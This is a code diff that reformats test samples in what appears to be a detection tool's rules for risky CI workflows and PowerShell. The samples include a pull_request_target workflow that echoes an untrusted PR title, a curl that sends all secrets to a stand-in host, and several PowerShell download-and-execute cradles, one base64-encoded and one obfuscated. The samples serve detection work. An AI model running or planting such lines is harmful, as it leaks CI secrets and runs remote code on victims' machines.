@@ -43,7 +43,10 @@ def steering_settings(reading: Reading) -> Iterator[Spot]:
     indicator=True,
     sample="w.yml",
     fires=(
-        "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.pull_request.title }}\n",
+        (
+            "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n"
+            "      - run: echo ${{ github.event.pull_request.title }}\n"
+        ),
         "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl -d '${{ toJSON(secrets) }}' https://x.example\n",
     ),
     quiet=(
@@ -110,7 +113,10 @@ def other_exfiltration(reading: Reading) -> Iterator[Spot]:
     sample="a.ps1",
     fires=(
         "iwr -useb https://x.example/w | iex\n",
-        "powershell -nop -w hidden -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwB3ACAAfAAgAGkAZQB4AA==\n",
+        (
+            "powershell -nop -w hidden -enc "
+            "aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUALwB3ACAAfAAgAGkAZQB4AA==\n"
+        ),
         "IEX (New-Object Net.WebClient).('Down' + 'loadString')('https://x.example')\nIEX (New-Object Net.WebClient).DownloadString('https://x.example')\n",
     ),
     quiet=("Invoke-WebRequest https://x.example/data.csv -OutFile data.csv\n",),
